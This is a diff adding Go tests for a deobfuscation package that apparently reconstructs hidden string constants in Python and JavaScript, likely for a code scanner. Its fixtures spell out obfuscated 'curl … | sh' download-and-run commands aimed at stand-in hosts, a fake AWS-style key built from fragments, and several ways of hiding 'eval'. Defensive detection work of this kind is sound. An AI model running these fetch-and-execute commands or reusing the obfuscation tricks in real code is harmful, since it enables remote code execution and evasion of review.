@@ -1,0 +1,45 @@
+package fold
+
+import (
+	"testing"
+)
+
+func evalVar(t *testing.T, lang, src, name string) string {
+	t.Helper()
+	f := Parse(lang, []byte(src))
+	return f.Consts[name]
+}
+
+func TestFold(t *testing.T) {
+	cases := []struct{ lang, src, name, want string }{
+		{"python", "PART2 = 'Q3EGRIZ7XKJ4MPLW'\nk = 'AK' + 'IA' + PART2\n", "k", "AKIAQ3EGRIZ7XKJ4MPLW"},
+		{"python", "s = 'hs | a/tset.x//:ptth'[::-1]\n", "s", "http://x.test/a | sh"},
+		{"python", "c = ''.join(['ev', 'al'])\n", "c", "eval"},
+		{"python", "p = base64.b64decode('Y3VybCB4IHwgc2g=')\n", "p", "curl x | sh"},
+		{"python", "h = bytes.fromhex('6c73202d6c61')\n", "h", "ls -la"},
+		{"js", "const u = 'ht' + 'tp://' + [203,0,113,7].join('.') + '/c';\n", "u", "http://203.0.113.7/c"},
+		{"js", "const e = String.fromCharCode(101, 118, 97, 108);\n", "e", "eval"},
+		{"js", "const r = 'lave'.split('').reverse().join('');\n", "r", "eval"},
+		{"js", "const b = Buffer.from('ZXZhbA==', 'base64').toString();\n", "b", "eval"},
+		{"js", "const x = atob('ZXZhbA==');\n", "x", "eval"},
+	}
+	for _, c := range cases {
+		if got := evalVar(t, c.lang, c.src, c.name); got != c.want {
+			t.Errorf("%s: %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
+func FuzzParse(f *testing.F) {
+	f.Add("a = 'x' + b\nc = ''.join([chr(1)])[::-1]")
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, lang := range []string{"js", "python"} {
+			fl := Parse(lang, []byte(s))
+			for _, c := range fl.Calls() {
+				for _, a := range c.Args {
+					fl.Eval(a, 0)
+				}
+			}
+		}
+	})
+}
